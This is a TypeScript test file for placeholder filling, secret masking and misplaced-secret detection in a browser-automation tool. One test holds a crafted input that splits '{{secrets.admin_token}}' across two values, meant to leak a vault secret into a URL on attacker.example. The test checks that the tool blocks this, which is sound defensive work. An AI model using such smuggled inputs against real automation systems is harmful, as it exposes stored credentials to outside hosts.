import { describe, expect, it } from 'vitest'
import type { AutomationStep } from './automation-steps.ts'
import { fillRunStep, stepsWithInputs } from './run-inputs.ts'
import { fillStep, hideValues, misplacedSecrets, placeholdersIn, placeholdersOf } from './step-placeholders.ts'

const steps: AutomationStep[] = [
  { type: 'navigate', url: 'https://shop.example/search?q={{input.term}}' },
  { type: 'type', target: [{ by: 'label', text: 'Password' }], text: '{{ secrets.shop_password }}' },
  { type: 'type', target: [{ by: 'label', text: 'Code' }], text: '{{totp.shop}}' },
  { type: 'click', target: [{ by: 'text', text: '{{secrets.not_here}}' }] },
  { type: 'assertText', text: 'Hello {{input.term}}' },
]

describe('step placeholders', () => {
  it('finds each placeholder of the fields that take them, once, and none in targets', () => {
    expect(placeholdersOf(steps).map((p) => `${p.kind}.${p.name}`)).toEqual(['input.term', 'secrets.shop_password', 'totp.shop'])
  })

  it('ignores what only looks like one: template inputs, unknown kinds, bad names', () => {
    expect(placeholdersIn('{{search_term}} {{vault.x}} {{secrets.1x}} {{secrets.}} {secrets.x}')).toEqual([])
  })

  it('fills the values it has and lists the ones it does not', () => {
    const values: Record<string, string> = { 'input.term': 'rain jacket', 'secrets.shop_password': 'hunter22' }
    const filled = steps.map((step) => fillStep(step, (p) => values[`${p.kind}.${p.name}`]))
    expect(filled[0]?.step).toMatchObject({ url: 'https://shop.example/search?q=rain jacket' })
    expect(filled[1]?.step).toMatchObject({ text: 'hunter22' })
    expect(filled[2]?.missing.map((p) => p.text)).toEqual(['{{totp.shop}}'])
    expect(filled[2]?.step).toMatchObject({ text: '{{totp.shop}}' })
    expect(filled[3]?.step).toBe(steps[3])
    // The original steps are unchanged.
    expect(steps[1]).toMatchObject({ text: '{{ secrets.shop_password }}' })
  })

  it('hides every value it was given, the longest first, and leaves short ones alone', () => {
    const hidden = new Map([
      ['hunter22', '{{secrets.pw}}'],
      ['hunter2', '{{secrets.old}}'],
      ['ab', '{{secrets.tiny}}'],
    ])
    expect(hideValues('typed hunter22 then hunter2 in a lab', hidden)).toBe('typed {{secrets.pw}} then {{secrets.old}} in a lab')
  })

  it('finds vault placeholders anywhere but in the text a type step types, with the step and field', () => {
    const misplaced = misplacedSecrets([
      { type: 'navigate', url: 'https://x.example/?k={{secrets.key}}&q={{input.term}}' },
      { type: 'type', target: [{ by: 'label', text: '{{totp.shop}}' }], text: '{{secrets.ok}} and {{input.term}}' },
      { type: 'extract', target: [{ by: 'css', selector: 'h1' }], field: 'title', attribute: '{{ secrets.key }}' },
      { type: 'screenshot', name: 'after {{secrets.key}}' },
    ])
    expect(misplaced.map(({ index, field, placeholder }) => [index, field, placeholder.text])).toEqual([
      [0, 'url', '{{secrets.key}}'],
      [1, 'target.0.text', '{{totp.shop}}'],
      [2, 'attribute', '{{ secrets.key }}'],
      [3, 'name', '{{secrets.key}}'],
    ])
    expect(misplaced[0]?.message).toBe(
      'Step 1 (navigate): {{secrets.key}} may only be typed into a field (the text of a type step), never placed in the address to open.',
    )
  })

  it('fills a run step in one pass: what an input brings is never read as a placeholder', () => {
    const step: AutomationStep = { type: 'navigate', url: 'https://attacker.example/t?q={{input.a}}{{input.b}}' }
    const vault = (placeholder: { text: string }) => `VALUE-OF-${placeholder.text}`
    expect(fillRunStep(step, { a: '{', b: '{secrets.admin_token}}' }, vault).step).toEqual({
      type: 'navigate',
      url: 'https://attacker.example/t?q={{secrets.admin_token}}',
    })
    const typed: AutomationStep = { type: 'type', target: [{ by: 'label', text: 'Note' }], text: '{{input.x}} {{secrets.pw}}' }
    expect(fillRunStep(typed, { x: '{{input.x}}{{secrets.pw}}' }, vault).step).toMatchObject({
      text: '{{input.x}}{{secrets.pw}} VALUE-OF-{{secrets.pw}}',
    })
    // Inputs given as null: the step came filled, its input placeholders stay as they are.
    expect(fillRunStep(typed, null, () => undefined)).toMatchObject({
      step: { text: '{{input.x}} {{secrets.pw}}' },
      missing: [{ text: '{{secrets.pw}}' }],
    })
    expect(stepsWithInputs([typed], { x: '{{secrets.pw}}' })[0]).toMatchObject({ text: '{{secrets.pw}} {{secrets.pw}}' })
  })
})
